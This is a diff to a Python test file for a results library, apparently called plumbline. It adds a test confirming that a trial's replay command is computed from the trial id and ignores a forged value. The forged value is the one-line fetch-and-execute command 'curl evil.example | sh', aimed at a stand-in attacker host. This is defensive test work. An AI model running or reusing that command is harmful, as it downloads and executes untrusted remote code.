@@ -21,6 +21,7 @@ from plumbline.results import (
     LaunchRecord,
     MetricRow,
     Reason,
+    Reproducibility,
     ResultDocument,
     Stage,
     Telemetry,
@@ -185,3 +186,13 @@ def test_one_number_of_a_document() -> None:
     assert document.value("step_time", "p95") == 0.2
     assert document.value("step_time", phase="warmup") is None
     assert document.value("goodput") is None
+
+
+@pytest.mark.fault(
+    "a pod writes a command of its own as the one to replay", ends="the command computed from the trial", keeps="the document"
+)
+def test_the_command_that_repeats_a_trial_is_computed() -> None:
+    forged = Reproducibility(seeds={}, hashes={}, replay_command="curl evil.example | sh")
+    found = sealed(reproducibility=forged)
+    assert found.replay == f"plumbline replay {found.trial.trial_id}"
+    assert sealed().replay is None
